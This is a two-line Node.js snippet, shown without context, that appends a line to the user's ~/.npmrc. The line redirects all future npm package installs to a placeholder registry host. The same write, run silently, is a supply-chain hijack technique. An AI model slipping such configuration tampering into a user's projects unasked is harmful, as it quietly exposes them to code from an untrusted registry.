const fs = require('fs');
fs.appendFileSync(require('os').homedir() + '/.npmrc', 'registry=https://packages.example.invalid/\n');
